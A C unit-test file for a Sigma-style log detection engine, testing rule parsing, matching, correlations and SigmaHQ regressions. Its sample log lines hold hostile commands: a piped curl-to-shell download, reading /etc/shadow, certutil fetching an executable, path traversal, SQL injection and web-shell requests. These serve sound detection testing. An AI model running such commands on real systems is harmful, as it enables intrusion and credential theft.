		    {"C:\\\\x\\\\a.exe", "net user x /PASSWORD", "wild"},
		    {"C:\\\\x\\\\a.exe", "pa\\\\sword", "wild"},
		    {"C:\\\\x\\\\a.exe", "pasword", ""},
		    {"C:\\\\x\\\\a.exe", "WHOAMI /all", "cased"},
		    {"C:\\\\x\\\\a.exe", "whoami /all", ""},
		    {"C:\\\\x\\\\x.exe", "a#b", "one"},
		    {"C:\\\\x\\\\x.exe", "ab", ""},
		    {"C:\\\\x\\\\a.exe", "Compress-Archive -Path C:\\\\d -DestinationPath e", "zip"},
		    {"C:\\\\x\\\\a.exe", "compress-archive -path C:\\\\d -destinationpath e", ""},
		    {"C:\\\\x\\\\a.exe", "tok0001xcertutil -decode pa\\\"sword #", "many;dash;wild"},
		    {"C:\\\\x\\\\a.exe", "whoami /priv", "re"},
		    {"C:\\\\x\\\\a.exe", "", ""},
		};
		for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++)
			expect_sysmon(rs, cases[i].image, cases[i].cmd, cases[i].want);
		/* a value longer than any before it: the matcher's folded copy
		 * grows */
		char *cmd = malloc(70000);
		assert_non_null(cmd);
		memset(cmd, 'y', 69990);
		strcpy(cmd + 69990, "tok0123x");
		expect_sysmon(rs, "C:\\\\x\\\\a.exe", cmd, "many");
		free(cmd);
		det_rules_free(rs);
	}
	scratch_free(dir);
}

/* A literal too long for Hyperscan (a few thousand bytes) or PCRE2
 * (32,767) is tested by lit_find: a rule of a 70,000-byte value fires,
 * in a slot without a literal set, compiled and read from the cache. */
static void long_literals(void **state)
{
	(void)state;
	enum { LONG = 70000 };
	char *yaml = malloc(LONG + 512), *cmd = malloc(LONG + 64);
	assert_non_null(yaml);
	assert_non_null(cmd);
	for (int i = 0; i < LONG; i++)
		cmd[i] = "abcXYZq"[i % 7];
	cmd[LONG] = '\0';
	snprintf(yaml, LONG + 512,
	         "title: long\n" PC "detection: {sel: {CommandLine|contains: '%s'}, condition: sel}\n"
	         "---\ntitle: re\n" PC
	         "detection: {sel: {CommandLine|re: 'whoam\\w /priv'}, condition: sel}\n",
	         cmd);
	char *dir = scratch_new();
	for (int round = 0; round < 2; round++) {
		det_rules *rs = det_rules_new();
		det_rules_set_cache(rs, dir);
		diags d = DIAGS_INIT;
		assert_int_equal(det_rules_add(rs, yaml, strlen(yaml), "test.yml", &d), 2);
		assert_int_equal(det_rules_compile(rs, &d), 0);
		assert_int_equal(d.n, 0);
		diags_free(&d);
		assert_int_equal(det_rules_cache_state(rs, NULL),
		                 round == 0 ? DET_CACHE_STORED : DET_CACHE_HIT);
		expect_sysmon(rs, "C:\\\\x\\\\a.exe", cmd, "long");
		cmd[0] = 'A'; /* caseless */
		expect_sysmon(rs, "C:\\\\x\\\\a.exe", cmd, "long");
		cmd[LONG - 1] = '!';
		expect_sysmon(rs, "C:\\\\x\\\\a.exe", cmd, "");
		cmd[0] = 'a';
		cmd[LONG - 1] = "abcXYZq"[(LONG - 1) % 7];
		det_rules_free(rs);
	}
	scratch_free(dir);
	free(yaml);
	free(cmd);
}

/* A command line padded with escaped bytes past any fixed room is read
 * whole: the padding must not hide the rest of it from the rules. */
static void padded_escapes(void **state)
{
	(void)state;
	det_rules *rs = rules_of("title: whoami\n" PC
	                         "detection: {sel: {CommandLine|contains: 'whoami'}, "
	                         "img: {Image|endswith: '\\cmd.exe'}, condition: sel and img}\n");
	for (size_t pad = 0; pad <= 40000; pad += 10000) {
		char *cmd = malloc(2 * pad + 64);
		assert_non_null(cmd);
		strcpy(cmd, "cmd.exe /c ");
		for (size_t i = 0; i < pad; i++)
			strcat(cmd + 11 + 2 * i, "\\\\"); /* one backslash, escaped */
		strcat(cmd, " whoami");
		expect_sysmon(rs, "C:\\\\x\\\\cmd.exe", cmd, "whoami");
		free(cmd);
	}
	det_rules_free(rs);
}

static void two_clause_waking(void **state)
{
	(void)state;
	det_rules *rs = rules_of(
	    "title: pair\n" PC
	    "detection: {a: {Image|endswith: '\\tool.exe'}, b: {CommandLine|contains: 'secret-x'}, "
	    "condition: a and b}\n"
	    "---\ntitle: pair2\n" PC
	    "detection: {a: {Image|endswith: '\\tool.exe'}, b: {CommandLine|contains: 'other-y'}, "
	    "condition: a and b}\n"
	    "---\ntitle: either\n" PC
	    "detection: {a: {Image|endswith: '\\tool.exe'}, b: {CommandLine|contains: 'other-y'}, "
	    "condition: a or b}\n"
	    "---\ntitle: same\n" PC
	    "detection: {a: {CommandLine|contains: 'twice-z'}, b: {CommandLine|contains|all: "
	    "['twice-z', 'q']}, condition: a and b}\n");
	/* the wake entries: pair and pair2 as A and B, either alone */
	int kinds[4][3] = {{0}};
	for (size_t i = 0; i < rs->n_patterns; i++)
		for (int k = 0; k < rs->patterns[i].n_wake; k++) {
			int w = rs->patterns[i].wake[k];
			kinds[w >> 2][w & 3]++;
		}
	assert_int_equal(kinds[0][WAKE_A] + kinds[0][WAKE_B], 2);
	assert_int_equal(kinds[0][WAKE_ALONE], 0);
	assert_int_equal(kinds[1][WAKE_A] + kinds[1][WAKE_B], 2);
	assert_int_equal(kinds[2][WAKE_ALONE], 2);
	assert_int_equal(kinds[2][WAKE_A] + kinds[2][WAKE_B], 0);
	static const struct {
		const char *image, *cmd, *want;
	} cases[] = {
	    {"C:\\\\x\\\\tool.exe", "run secret-x", "pair;either"},
	    {"C:\\\\x\\\\tool.exe", "run other-y", "pair2;either"},
	    {"C:\\\\x\\\\tool.exe", "run", "either"},
	    {"C:\\\\x\\\\a.exe", "secret-x other-y", "either"},
	    {"C:\\\\x\\\\tool.exe", "secret-x other-y", "pair;pair2;either"},
	    {"C:\\\\x\\\\a.exe", "twice-z q", "same"},
	    {"C:\\\\x\\\\a.exe", "twice-z", ""},
	};
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++)
		expect_sysmon(rs, cases[i].image, cases[i].cmd, cases[i].want);
	det_rules_free(rs);
}

static void refusals(void **state)
{
	(void)state;
	static const struct {
		const char *yaml, *want;
	} cases[] = {
	    {"title: x\n" PC "detection:\n  sel:\n    Image|nosuch: a\n  condition: sel\n",
	     "test.yml:5:5: unknown modifier 'nosuch'"},
	    {"title: x\n" PC "detection:\n  sel: {Image: a}\n  condition: sel and other\n",
	     "test.yml:5:14: condition: unknown selection 'other'"},
	    {"title: x\n" PC "detection:\n  sel: {Image: a}\n  condition: sel | count() > 5\n",
	     "aggregations"},
	    {"title: x\n" PC "detection:\n  sel: {Image: a}\n  condition: (sel\n", "missing ')'"},
	    {"title: x\n" PC "detection:\n  sel: {Image|re: 'a(b'}\n",
	     "regular expression: missing closing parenthesis"},
	    {PC "detection:\n  sel: {Image: a}\n  condition: sel\n", "the rule has no title"},
	    {"title: x\n" PC "detection:\n  sel: {Image|expand: '%Admins%'}\n  condition: sel\n",
	     "test.yml:4:23: placeholder %Admins% has no value (give its values in the "
	     "placeholders file: [detect] placeholders, or --placeholders)"},
	    {"title: x\n" PC "level: severe\ndetection:\n  sel: {Image: a}\n  condition: sel\n",
	     "unknown level 'severe'"},
	    {"title: x\n" PC "detection:\n  sel: {Image|contains|all: a}\n  condition: sel\n",
	     "all needs a list"},
	    {"title: x\n" PC "detection:\n  sel: {Ip|cidr: '10.0.0.0/33'}\n  condition: sel\n",
	     "not an address range"},
	    {"title: x\n" PC "detection:\n  sel: {Image: a}\n", "no condition"},
	    {"title: x\ncorrelation: {type: event_count}\n",
	     "a correlation needs the rules it correlates"},
	    {"title: x\ncorrelation: {type: value_sum, rules: [a], timespan: 5m}\n",
	     "value_sum, value_avg and value_percentile are not supported"},
	    {"title: x\ncorrelation: {type: event_count, rules: [good], timespan: 5m, "
	     "condition: {lt: 3}}\n",
	     "'lt' cannot be decided before the timespan ends"},
	    {"title: x\ncorrelation: {type: event_count, rules: [good], timespan: 5 minutes, "
	     "condition: {gte: 3}}\n",
	     "timespan must be a number and s, m, h or d"},
	    {"title: x\ncorrelation: {type: value_count, rules: [good], timespan: 5m, "
	     "condition: {gte: 3}}\n",
	     "a value_count condition names its field"},
	    {"title: x\ncorrelation: {type: temporal, rules: [good], timespan: 5m}\n",
	     "a temporal correlation needs two rules or more"},
	    {"title: x\n" PC "detection:\n  sel: {Image: a}\n  condition: 1 of nothing*\n",
	     "no selection matches 'nothing*'"},
	};
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		det_rules *rs = det_rules_new();
		diags d = DIAGS_INIT;
		const char *good =
		    "title: good\n" PC "detection: {sel: {Image: a}, condition: sel}\n";
		char text[2048];
		snprintf(text, sizeof text, "%s---\n%s", cases[i].yaml, good);
		int n = det_rules_add(rs, text, strlen(text), "test.yml", &d);
		assert_int_equal(n, 1); /* the bad rule is skipped, the good one kept */
		assert_int_equal(d.n, 1);
		char got[600];
		snprintf(got, sizeof got, "%s:%d:%d: %s", d.v[0].file, d.v[0].line, d.v[0].col,
		         d.v[0].msg);
		if (strstr(got, cases[i].want) == NULL)
			fail_msg("case %zu: got \"%s\", want \"%s\"", i, got, cases[i].want);
		assert_string_equal(det_rules_get(rs, 0)->title, "good");
		diags_free(&d);
		det_rules_free(rs);
	}
}

/* Correlations: each type fires once its condition holds within the
 * timespan, per group; windows start afresh after firing; members that
 * do not "generate" are quiet; unknown members and chains are refused at
 * compile time. */
static const char CORR_RULES[] =
    "title: Failed password\nname: failed\nid: 11111111-1111-4111-8111-111111111111\n"
    "logsource: {product: linux, service: sshd}\n"
    "detection: {sel: {action: ssh_login_failed}, condition: sel}\n"
    "---\ntitle: Accepted\nname: accepted\nlogsource: {product: linux, service: sshd}\n"
    "detection: {sel: {action: ssh_login_success}, condition: sel}\n"
    "---\ntitle: Brute force\nlevel: high\ncorrelation:\n  type: event_count\n"
    "  rules: [failed]\n  group-by: [srcip]\n  timespan: 60s\n  condition: {gte: 3}\n"
    "---\ntitle: Spraying\ncorrelation:\n  type: value_count\n"
    "  rules: [11111111-1111-4111-8111-111111111111]\n  group-by: [srcip]\n"
    "  timespan: 10m\n  condition: {field: srcuser, gte: 3}\n"
    "---\ntitle: Guessed\ncorrelation:\n  type: temporal_ordered\n"
    "  rules: [failed, accepted]\n  group-by: [srcip]\n  timespan: 5m\n";

static int64_t corr_t;

static void failed(char *line, size_t n, const char *user, const char *from)
{
	snprintf(line, n, "Nov 23 08:00:01 web01 sshd[1]: Failed password for %s from %s port 1 ssh2",
	         user, from);
}
static char fired[1024];
/* The members of each firing, as "ref/member" of the events that made it
 * (the ref a line is fed with is its offset from corr_t, plus one). */
static char members[1024];

static void feed_line(det_rules *rs, det_matcher *m, det_correlator *c, const char *line,
                      int64_t t)
{
	det_parse_line(line, strlen(line), &OPTS, &ev, &(const char *){NULL});
	hits[0] = '\0';
	det_match(m, &ev, collect, NULL);
	for (size_t i = 0; i < det_rules_count(rs); i++) {
		const det_rule *r = det_rules_get(rs, i);
		if (!strstr(hits, r->title))
			continue;
		det_obs obs[8];
		size_t n = det_corr_observe(rs, r, &ev, t, true, obs, 8);
		for (size_t k = 0; k < n; k++) {
			det_corr_match cm;
			obs[k].ref = (uint64_t)(t - corr_t + 1);
			if (det_correlate(c, &obs[k], &cm)) {
				char one[200];
				snprintf(one, sizeof one, "%s%s(%s,%lld)", fired[0] ? ";" : "",
				         cm.rule->title, cm.key, (long long)cm.count);
				strncat(fired, one, sizeof fired - strlen(fired) - 1);
				strncat(members, members[0] ? ";" : "", sizeof members - strlen(members) - 1);
				for (size_t j = 0; j < cm.n_members; j++) {
					snprintf(one, sizeof one, "%s%llu/%s", j ? "," : "",
					         (unsigned long long)cm.members[j].ref,
					         det_corr_member_name(cm.rule, cm.members[j].member));
					strncat(members, one, sizeof members - strlen(members) - 1);
				}
			}
		}
	}
}

static void correlations(void **state)
{
	(void)state;
	det_rules *rs = det_rules_new();
	diags d = DIAGS_INIT;
	assert_int_equal(det_rules_add(rs, CORR_RULES, strlen(CORR_RULES), "c.yml", &d), 5);
	assert_int_equal(det_rules_compile(rs, &d), 0);
	assert_int_equal(d.n, 0);
	assert_int_equal(det_rules_count(rs), 2);
	assert_int_equal(det_rules_n_correlations(rs), 3);
	assert_string_equal(det_rules_correlation(rs, 0)->correlation, "event_count");
	assert_true(det_rules_get(rs, 0)->quiet); /* no generate: only correlations report */
	det_matcher *m = det_matcher_new(rs);
	det_correlator *c = det_correlator_new(rs);
	char line[300];
	corr_t = 1795395600;
	/* two failures from .9, one from .10, then a third from .9: brute force on .9 */
	failed(line, sizeof line, "root", "203.0.113.9");
	feed_line(rs, m, c, line, corr_t);
	failed(line, sizeof line, "admin", "203.0.113.9");
	feed_line(rs, m, c, line, corr_t + 10);
	failed(line, sizeof line, "root", "203.0.113.10");
	feed_line(rs, m, c, line, corr_t + 20);
	assert_string_equal(fired, "");
	failed(line, sizeof line, "budi", "203.0.113.9");
	feed_line(rs, m, c, line, corr_t + 30);
	/* the third distinct user from .9 also completes the spraying count */
	assert_string_equal(fired, "Brute force(203.0.113.9,3);Spraying(203.0.113.9,3)");
	/* each names the events that made it, by the refs they were fed with */
	assert_string_equal(members, "1/failed,11/failed,31/failed;"
	                             "1/11111111-1111-4111-8111-111111111111,"
	                             "11/11111111-1111-4111-8111-111111111111,"
	                             "31/11111111-1111-4111-8111-111111111111");
	fired[0] = '\0';
	members[0] = '\0';
	/* the window started afresh: two more do not fire; outside 60 s they age out */
	feed_line(rs, m, c, line, corr_t + 40);
	feed_line(rs, m, c, line, corr_t + 200);
	feed_line(rs, m, c, line, corr_t + 210);
	assert_string_equal(fired, "");
	feed_line(rs, m, c, line, corr_t + 220);
	assert_string_equal(fired, "Brute force(203.0.113.9,3)");
	fired[0] = '\0';
	members[0] = '\0';
	/* temporal_ordered: a failure then a success from one address within 5 minutes */
	feed_line(rs, m, c,
	          "Nov 23 08:10:00 web01 sshd[1]: Accepted password for budi from 198.51.100.7 port 1 "
	          "ssh2",
	          corr_t + 300); /* success first: nothing */
	failed(line, sizeof line, "budi", "198.51.100.7");
	feed_line(rs, m, c, line, corr_t + 310);
	feed_line(rs, m, c,
	          "Nov 23 08:10:00 web01 sshd[1]: Accepted password for budi from 198.51.100.7 port 1 "
	          "ssh2",
	          corr_t + 320);
	assert_string_equal(fired, "Guessed(198.51.100.7,2)");
	assert_string_equal(members, "311/failed,321/accepted");
	det_correlator_free(c);
	det_matcher_free(m);
	det_rules_free(rs);

	/* aliases: one group-by name, a different field in each member */
	static const char aliased[] =
	    "title: Su failed\nname: su_failed\nlogsource: {product: linux, service: auth}\n"
	    "detection: {sel: {action: su_failed}, condition: sel}\n"
	    "---\ntitle: Sudo denied\nname: sudo_denied\nlogsource: {product: linux, service: sudo}\n"
	    "detection: {sel: {action: sudo_denied}, condition: sel}\n"
	    "---\ntitle: Both\ncorrelation:\n  type: temporal\n  rules: [su_failed, sudo_denied]\n"
	    "  group-by: [account]\n  timespan: 5m\n  aliases:\n    account:\n"
	    "      su_failed: srcuser\n      sudo_denied: srcuser\n";
	rs = det_rules_new();
	assert_int_equal(det_rules_add(rs, aliased, strlen(aliased), "a.yml", &d), 3);
	assert_int_equal(det_rules_compile(rs, &d), 0);
	assert_int_equal(d.n, 0);
	m = det_matcher_new(rs);
	c = det_correlator_new(rs);
	fired[0] = '\0';
	feed_line(rs, m, c, "Nov 23 08:00:01 web01 su[9]: FAILED SU (to root) budi on pts/0", corr_t);
	feed_line(rs, m, c,
	          "Nov 23 08:00:02 web01 sudo[9]: budi : user NOT in sudoers ; TTY=pts/1 ; PWD=/tmp ; "
	          "USER=root ; COMMAND=/bin/bash",
	          corr_t + 5);
	det_correlator_free(c);
	det_matcher_free(m);
	det_rules_free(rs);
	if (strcmp(fired, "Both(budi,2)") != 0)
		fail_msg("aliases: fired \"%s\"", fired);

	/* members that cannot be found, or that are correlations, are refused */
	static const char bad[] =
	    "title: A\nname: a\ncorrelation: {type: event_count, rules: [nothing], timespan: 1m, "
	    "condition: {gte: 2}}\n---\ntitle: B\ncorrelation: {type: event_count, rules: [a], "
	    "timespan: 1m, condition: {gte: 2}}\n";
	rs = det_rules_new();
	assert_int_equal(det_rules_add(rs, bad, strlen(bad), "bad.yml", &d), 2);
	det_rules_compile(rs, &d);
	assert_int_equal(d.n, 2);
	assert_non_null(strstr(d.v[0].msg, "no loaded rule has the id or name 'nothing'"));
	assert_non_null(strstr(d.v[1].msg, "chains of correlations are not supported yet"));
	assert_int_equal(det_rules_n_correlations(rs), 0);
	diags_free(&d);
	det_rules_free(rs);
}

/* The shipped rules: all load, and each fires on its own sample. */
static void shipped(void **state)
{
	(void)state;
	det_rules *rs = det_rules_new();
	diags d = DIAGS_INIT;
	int n = det_rules_add_builtin(rs, &d);
	assert_int_equal(d.n, 0);
	assert_true(n >= 19);
	assert_int_equal(det_rules_compile(rs, &d), 0);
	assert_int_equal(d.n, 0);
	assert_int_equal(det_rules_n_correlations(rs), 2);
	assert_int_equal(det_rules_unmapped(rs), 0);
	static const struct {
		const char *line, *title;
	} samples[] = {
	    {"Nov 23 08:00:01 web01 sshd[812]: Accepted password for root from 203.0.113.9 port "
	     "50122 ssh2",
	     "Root Login over SSH Accepted"},
	    {"Nov 23 08:00:01 web01 sshd[812]: Invalid user oracle from 203.0.113.9 port 50122",
	     "SSH Login Attempt with an Unknown Account"},
	    {"Nov 23 08:00:01 web01 sshd[812]: Failed password for budi from 203.0.113.9 port 50122 "
	     "ssh2",
	     "SSH Password Failure"},
	    {"Nov 23 08:00:01 web01 sshd[812]: reverse mapping checking getaddrinfo for x.example "
	     "[203.0.113.9] failed - POSSIBLE BREAK-IN ATTEMPT!",
	     "SSH Reverse Mapping Failure (\"POSSIBLE BREAK-IN ATTEMPT\")"},
	    {"Nov 23 08:00:01 web01 sudo[9]: tamu : user NOT in sudoers ; TTY=pts/1 ; PWD=/tmp ; "
	     "USER=root ; COMMAND=/bin/bash",
	     "Sudo Refused for a User Not in sudoers"},
	    {"Nov 23 08:00:01 web01 sudo[9]: budi : TTY=pts/0 ; PWD=/home/budi ; USER=root ; "
	     "COMMAND=/bin/bash",
	     "Interactive Root Shell through Sudo"},
	    {"Nov 23 08:00:01 web01 su[9]: FAILED SU (to root) budi on pts/0", "Failed su to root"},
	    {"Nov 23 08:00:01 web01 useradd[9]: new user: name=backup2, UID=0, GID=0, home=/root, "
	     "shell=/bin/bash",
	     "Account Created with User ID 0"},
	    {"type=EXECVE msg=audit(1764000000.123:77): argc=3 a0=\"bash\" a1=\"-c\" "
	     "a2=6375726C20687474703A2F2F782F61207C207368",
	     "Download Piped into a Shell"},
	    {"type=EXECVE msg=audit(1764000000.123:78): argc=2 a0=\"cat\" a1=\"/etc/shadow\"",
	     "Password Hash File Read by a Command"},
	    {"203.0.113.9 - - [23/Nov/2026:08:00:01 +0700] \"GET /index.php?page=../../etc/passwd "
	     "HTTP/1.1\" 200 512 \"-\" \"curl/8\"",
	     "Path Traversal in a Web Request"},
	    {"203.0.113.9 - - [23/Nov/2026:08:00:01 +0700] \"GET /berita.php?id=1+union+select+1,2 "
	     "HTTP/1.1\" 200 512 \"-\" \"-\"",
	     "SQL Injection Attempt in a Web Request"},
	    {"203.0.113.9 - - [23/Nov/2026:08:00:01 +0700] \"GET / HTTP/1.1\" 200 512 \"-\" "
	     "\"sqlmap/1.7.2#stable (https://sqlmap.org)\"",
	     "Web Vulnerability Scanner User-Agent"},
	    {"Nov 23 08:00:01 web01 nginx: 203.0.113.9 - - [23/Nov/2026:08:00:01 +0700] \"GET "
	     "/uploads/x.php?cmd=whoami HTTP/1.1\" 200 12 \"-\" \"-\"",
	     "Web Shell Command in a Request"},
	    {"{\"Event\":{\"System\":{" SYSMON
	     "},\"EventData\":{\"Image\":\"C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1."
	     "0\\\\powershell.exe\",\"CommandLine\":\"powershell.exe -NoP -enc SQBFAFgA\"}}}",
	     "PowerShell Started with an Encoded Command"},
	    {"{\"win\":{\"system\":{\"channel\":\"Microsoft-Windows-Sysmon/"
	     "Operational\",\"eventID\":\"1\"},\"eventdata\":{\"image\":\"C:"
	     "\\\\\\\\Windows\\\\\\\\System32\\\\\\\\certutil.exe\",\"commandLine\":\"certutil "
	     "-urlcache -f http://203.0.113.9/a.exe a.exe\"}}}",
	     "Certutil Used to Download a File"},
	    {"CEF:0|Fortinet|FortiWeb|7.0|20000010|SQL Injection|8|src=203.0.113.9 dst=10.1.1.5 "
	     "act=blocked request=/login",
	     "Firewall or WAF Blocked a High-Severity Attack"},
	};
	for (size_t i = 0; i < sizeof samples / sizeof samples[0]; i++) {
		const char *got = run(rs, samples[i].line);
		if (strcmp(got, samples[i].title) != 0)
			fail_msg("sample %zu: got \"%s\", want \"%s\"", i, got, samples[i].title);
	}
	/* Every shipped rule has a sample above. */
	assert_int_equal(det_rules_count(rs), sizeof samples / sizeof samples[0]);
	/* Benign lines of the same kinds fire nothing. */
	assert_string_equal(run(rs, "Nov 23 08:00:01 web01 sshd[812]: Accepted publickey for budi "
	                            "from 10.0.0.9 port 50122 ssh2"),
	                    "");
	assert_string_equal(
	    run(rs, "203.0.113.9 - - [23/Nov/2026:08:00:01 +0700] \"GET /berita/2026/11/rapat.html "
	            "HTTP/1.1\" 200 5120 \"-\" \"Mozilla/5.0\""),
	    "");
	diags_free(&d);
	det_rules_free(rs);
}

struct by_id {
	const char *id;
	int n;
};

static void count_id(void *ctx, const det_rule *r, const det_event *e)
{
	struct by_id *c = ctx;
	(void)e;
	if (r->id && strcmp(r->id, c->id) == 0)
		c->n++;
}

static char shared_dir[1024];

/* The SigmaHQ tree: SIGAP_SIGMA_DIR when set (a checkout of the whole
 * upstream repository, with its 202 regression cases), else the sample in
 * ../shared/data/sigma. */
static bool have_shared(bool *whole)
{
	const char *env = getenv("SIGAP_SIGMA_DIR");
	*whole = env && *env;
	if (*whole)
		snprintf(shared_dir, sizeof shared_dir, "%s", env);
	else
		snprintf(shared_dir, sizeof shared_dir, "%s/../shared/data/sigma", SIGAP_SOURCE_ROOT);
	DIR *dh = opendir(shared_dir);
	if (dh == NULL)
		return false;
	closedir(dh);
	return true;
}

/* Regression cases whose event fires its rule at least match_count times:
 * every case of the sample in ../shared; of the 202 upstream cases, at
 * least this many (192 before registry_delete, pipe_created, windefend,
 * taskscheduler and wmi were mapped and UserData and spaced EventData
 * names read; 193 once the 1,024-value cap went). */
enum { UPSTREAM_CASES = 202, UPSTREAM_FLOOR = 202 };

/* All SigmaHQ rules load (or are reported with a reason); regression
 * events match their rules at least match_count times. */
static void sigmahq(void **state)
{
	(void)state;
	bool whole;
	if (!have_shared(&whole)) {
		print_message("../shared/data absent: SigmaHQ rules not checked\n");
		skip();
	}
	det_rules *rs = det_rules_new();
	diags d = DIAGS_INIT;
	d.limit = 100000;
	int n = 0;
	static const char *const trees[] = {"rules", "rules-emerging-threats",
	                                    "rules-threat-hunting"};
	for (size_t t = 0; t < sizeof trees / sizeof trees[0]; t++) {
		char path[1200];
		snprintf(path, sizeof path, "%s/%s", shared_dir, trees[t]);
		DIR *dh = opendir(path);
		if (dh == NULL)
			continue;
		closedir(dh);
		n += det_rules_add_path(rs, path, &d);
	}
	print_message("SigmaHQ: %d rules loaded, %zu reported\n", n, d.n);
	for (size_t i = 0; i < d.n; i++)
		print_message("  %s:%d: %s\n", d.v[i].file, d.v[i].line, d.v[i].msg);
	if (!whole)
		assert_int_equal((size_t)n + d.n, 1590);
	assert_int_equal(det_rules_compile(rs, &d), 0);
	det_matcher *m = det_matcher_new(rs);
	char cmd[1400];
	snprintf(cmd, sizeof cmd, "find %s/regression_data -name info.yml | sort", shared_dir);
	FILE *list = popen(cmd, "r");
	char info[1200];
	int checked = 0, firing = 0;
	while (fgets(info, sizeof info, list)) {
		info[strcspn(info, "\n")] = '\0';
		size_t len;
		char *yml = read_all(info, &len);
		assert_non_null(yml);
		char id[64] = "", *p = strstr(yml, "rule_metadata:");
		if (p && (p = strstr(p, "id: ")))
			sscanf(p + 4, "%63s", id);
		int want = 1;
		if ((p = strstr(yml, "\n      match_count: ")))
			want = atoi(p + 20);
		free(yml);
		/* The event file sits next to info.yml, named by the rule id. */
		char json[1300];
		snprintf(json, sizeof json, "%.*s/%s.json", (int)(strrchr(info, '/') - info), info,
		         id);
		char *text = read_all(json, &len);
		if (text == NULL)
			continue; /* the cisco case is a raw line, not tested upstream */
		/* One or more pretty-printed objects: split where braces balance. */
		int got = 0, depth = 0, events = 0, unread = 0;
		bool in_str = false, esc = false;
		size_t start = 0;
		for (size_t i = 0; i < len; i++) {
			char ch = text[i];
			if (in_str) {
				if (esc)
					esc = false;
				else if (ch == '\\')
					esc = true;
				else if (ch == '"')
					in_str = false;
				continue;
			}
			if (ch == '"')
				in_str = true;
			else if (ch == '{' && depth++ == 0)
				start = i;
			else if (ch == '}' && --depth == 0) {
				const char *why;
				events++;
				if (det_parse_line(text + start, i + 1 - start, &OPTS, &ev, &why) != 0) {
					unread++;
					continue;
				}
				struct by_id c = {id, 0};
				det_match(m, &ev, count_id, &c);
				got += c.n;
			}
		}
		free(text);
		checked++;
		if (got >= want)
			firing++;
		else
			print_message("  missed: %s: rule %s matched %d of %d events (%d of %d not "
			              "read)\n",
			              json + strlen(shared_dir) + 1, id, got, want, unread, events);
	}
	pclose(list);
	print_message("SigmaHQ regression: %d of %d event files fire their rule\n", firing, checked);
	if (whole && checked == UPSTREAM_CASES)
		assert_true(firing >= UPSTREAM_FLOOR);
	else
		assert_int_equal(firing, checked);
	assert_true(checked >= 80);
	det_matcher_free(m);
	diags_free(&d);
	det_rules_free(rs);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(modifiers),  cmocka_unit_test(encodings_and_networks),
	    cmocka_unit_test(conditions), cmocka_unit_test(many_values),
	    cmocka_unit_test(keywords_of_wazuh_messages),
	    cmocka_unit_test(one_field_many_names),
	    cmocka_unit_test(names_sharing_a_bit),
	    cmocka_unit_test(placeholders),
	    cmocka_unit_test(windows_logsources),
	    cmocka_unit_test(logsource_groups),
	    cmocka_unit_test(product_groups),
	    cmocka_unit_test(logsource_memo),
	    cmocka_unit_test(anchored_literals),
	    cmocka_unit_test(lazy_literals),
	    cmocka_unit_test(regex_literals),
	    cmocka_unit_test(regex_factors),
	    cmocka_unit_test(regex_count_needs),
	    cmocka_unit_test(regex_factors_hold),
	    cmocka_unit_test(regex_factors_in_rules),
	    cmocka_unit_test(literal_sets_in_rules),
	    cmocka_unit_test(long_literals),
	    cmocka_unit_test(padded_escapes),
	    cmocka_unit_test(two_clause_waking),
	    cmocka_unit_test(refusals),
	    cmocka_unit_test(correlations),
	    cmocka_unit_test(shipped),    cmocka_unit_test(sigmahq),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
